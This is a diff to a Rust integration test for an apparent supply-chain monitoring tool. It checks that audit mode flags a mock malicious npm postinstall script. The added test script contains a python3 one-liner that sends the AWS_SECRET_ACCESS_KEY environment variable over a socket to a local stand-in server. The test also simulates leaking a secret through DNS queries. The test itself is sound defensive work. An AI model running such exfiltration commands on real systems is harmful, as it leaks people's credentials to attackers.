@@ -35,9 +35,11 @@ fn audit_mode_flags_each_channel_and_lets_it_through() {
     let log = dir.path().join("e.jsonl");
     let script = format!(
         "{p} dns-sendto {dns_ip} ok.watcher.test A tcp 127.0.0.1:{ap} tcp {fa} dns-sendto {dns_ip} {leak} A; \
+         python3 -c \"import os,socket; s=socket.create_connection(('::1', {fp})); s.sendall(b'POST /c HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nk=' + os.environ['AWS_SECRET_ACCESS_KEY'].encode()); s.close()\"; \
          sh -c 'exit 0'; exit 3",
         ap = allowed.addr().port(),
         fa = forbidden.addr(),
+        fp = forbidden.addr().port(),
     );
     let out = Command::new(watcher_bin())
         .args(["run", "--quiet", "--policy"])
@@ -60,7 +62,8 @@ fn audit_mode_flags_each_channel_and_lets_it_through() {
     // Allowed traffic raises nothing; forbidden traffic reached its servers (audit).
     assert!(!rules.is_empty(), "{stderr}");
     assert_eq!(allowed.connections(), 1);
-    assert_eq!(forbidden.connections(), 1, "audit mode lets it through");
+    assert_eq!(forbidden.connections(), 2, "audit mode lets it through");
+    assert!(forbidden.payloads().iter().any(|p| p.windows(secret.len()).any(|w| w == secret.as_bytes())));
     assert!(dns.queries().iter().any(|q| q.name.starts_with(&hex[..40])), "audit mode lets the query out");
     let find = |rule: &str| al.iter().find(|a| a["rule"] == rule).unwrap_or_else(|| panic!("no {rule} alert in {al:#?}"));
     let egress = find("egress-denied");
@@ -71,12 +74,17 @@ fn audit_mode_flags_each_channel_and_lets_it_through() {
     let sec = find("secret-exfil");
     assert_eq!(sec["severity"], "critical");
     assert!(sec["message"].as_str().unwrap().contains("AWS_SECRET_ACCESS_KEY"));
+    // ... in the DNS name and in the bytes sent over TCP.
+    let secret_alerts: Vec<&str> =
+        al.iter().filter(|a| a["rule"] == "secret-exfil").map(|a| a["message"].as_str().unwrap()).collect();
+    assert!(secret_alerts.iter().any(|m| m.contains("DNS query name")), "{secret_alerts:?}");
+    assert!(secret_alerts.iter().any(|m| m.contains("data sent to ::1")), "{secret_alerts:?}");
     let shell = find("shell-from-install-script");
     assert_eq!(shell["package"], "npm:evil-pkg@6.6.6 (postinstall)");
     assert_eq!(egress["package"], "npm:evil-pkg@6.6.6 (postinstall)");
     // No alert for what the policy allows.
     assert!(!al.iter().any(|a| a["message"].as_str().unwrap().contains("ok.watcher.test")), "{al:#?}");
-    assert_eq!(rules.iter().filter(|r| **r == "egress-denied").count(), 1, "{al:#?}");
+    assert_eq!(rules.iter().filter(|r| **r == "egress-denied").count(), 2, "{al:#?}");
     // The value itself is written nowhere.
     let raw = std::fs::read_to_string(&log).unwrap();
     assert!(!raw.contains(secret) && !stderr.contains(secret));
